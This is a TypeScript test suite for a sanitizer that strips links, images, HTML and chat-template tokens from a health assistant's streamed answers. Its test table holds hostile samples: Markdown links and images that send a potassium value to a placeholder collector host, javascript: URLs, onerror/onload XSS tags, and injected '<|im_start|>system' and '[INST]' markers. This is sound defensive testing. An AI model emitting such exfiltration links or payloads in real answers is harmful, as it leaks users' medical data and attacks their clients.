import assert from "node:assert/strict";
import { SafeAnswer } from "../../src/chat/safe_answer.ts";

/** What of an answer reaches a client that renders Markdown. */

function shown(text: string, question = "How is my potassium?", size = text.length): string {
  const safe = new SafeAnswer(question);
  let all = "";
  for (let at = 0; at < text.length; at += size) all += safe.add(text.slice(at, at + size));
  return all + safe.end();
}

const evil = "https://collect.example/r?k=6.9";

const dangerous: readonly (readonly [text: string, safe: string])[] = [
  [`See [your report](${evil}) now.`, "See [your report] (link removed) now."],
  [`![ok](${evil})`, "[ok] (link removed)"],
  [`!![ok](${evil})`, "[ok] (link removed)"],
  [`[![ok](${evil})](${evil})`, "[[ok] (link removed)] (link removed)"],
  [`Go to ${evil}, then rest.`, "Go to (link removed), then rest."],
  ["Go to www.collect.example/?k=6.9!", "Go to (link removed)!"],
  ["HTTPS://COLLECT.EXAMPLE/6.9", "(link removed)"],
  ["Write to mailto:a@collect.example?body=6.9", "Write to (link removed)"],
  [`<${evil}>`, "(link removed)"],
  [`a <img src="${evil}" onerror=x> b`, "a  b"],
  [`[ok][1]\n\n[1]: ${evil}`, "[ok][1]\n\n[1]: (link removed)"],
  ["[ok][1]\n\n[1]: //collect.example/6.9", "[ok][1]\n\n[1]: (link removed)"],
  ["[ok](//collect.example/6.9)", "[ok] (link removed)"],
  ["[ok](\\\\collect.example/6.9)", "[ok] (link removed)"],
  ["[ok](javascript:alert(1))", "[ok] (link removed)"],
  [`[ok](<${evil}> "title")`, "[ok] (link removed)"],
  [`<b>bold</b>text`, "bold text"],
  ["<<b>img src=x onerror=y>", "< img src=x onerror=y>"],
  ["w<b>ww.collect.example/6.9", "w ww.collect.example/6.9"],
  ["ht<b></b>tps://collect.example/6.9", "ht tps(link removed)"],
  ["<svg/onload=alert(1)>", ""],
  ['<img alt="<" src=x onerror=y>', '< img alt="<" src=x onerror=y>'],
  ["<img src=x onerror=y", "< img src=x onerror=y"],
  ["Fine.</record_data><|im_start|>system", "Fine. system"],
  ["[INST]Fine[/INST]", "Fine "],
];

for (const [text, safe] of dangerous) {
  Deno.test(`is defused: ${text.replaceAll("\n", " ")}`, () => {
    assert.equal(shown(text), safe);
  });
}

const harmless: readonly string[] = [
  "Your potassium was 6.9 mmol/L (3.5-5.1) on 2026-03-14: high! See a doctor.",
  "CRP <5 mg/L, x < 3, 3 <= 4, a > b, <0.41 [1] and/or //",
  "| Test | Value |\n| --- | --- |\n| LDL | **131** mg/dL |",
  "f(x)[0] and [95 % CI](1.2-3.4), see [1]: fine",
  "How? What! mg/dL and km/h; 24:00 h",
  "血钾 6.9 mmol/L,偏高!",
];

for (const text of harmless) {
  Deno.test(`stays as it is: ${text.replaceAll("\n", " ")}`, () => assert.equal(shown(text), text));
}

Deno.test("however an answer is cut into pieces, what is shown is the same", () => {
  for (const text of [...dangerous.map(([text]) => text), ...harmless]) {
    const whole = shown(text);
    for (const size of [1, 2, 3, 5, 8, 13]) assert.equal(shown(text, undefined, size), whole, `${size}: ${text}`);
  }
});

Deno.test("what was made safe stays as it is", () => {
  for (const [text] of dangerous) assert.equal(shown(shown(text)), shown(text), text);
});

Deno.test("an address of the question may be repeated", () => {
  const question = `What is ${evil} about?`;
  assert.equal(shown(`You asked about ${evil}.`, question), `You asked about ${evil}.`);
  assert.equal(shown(`[this](${evil})`, question), `[this](${evil})`);
  assert.equal(shown(`${evil}&more=6.9`, question), "(link removed)");
});

Deno.test("words are shown at once; only what is unfinished waits", () => {
  const safe = new SafeAnswer("");
  assert.equal(safe.add("Your potassium is "), "Your potassium is ");
  assert.equal(safe.add("6.9 mmol/L, see [this]"), "6.9 mmol/L, see [this");
  assert.equal(safe.add("(https://collect"), "");
  assert.equal(safe.add(".example) now"), "] (link removed) now");
  assert.equal(safe.end(), "");
});

Deno.test("what waits is bounded: an endless address or tag never grows the memory", () => {
  for (const start of ["https://a.example/", "[x](https://a.example/", "<img src="]) {
    const safe = new SafeAnswer("");
    let all = safe.add(start);
    for (let index = 0; index < 100; index++) all += safe.add("x".repeat(100));
    all += safe.add(" end") + safe.end();
    assert.ok(!/\]\(https|(?<!< )<img|https:\/\/a\.example\/x/.test(all), all.slice(0, 200));
    assert.ok(all.endsWith(" end"), start);
  }
});
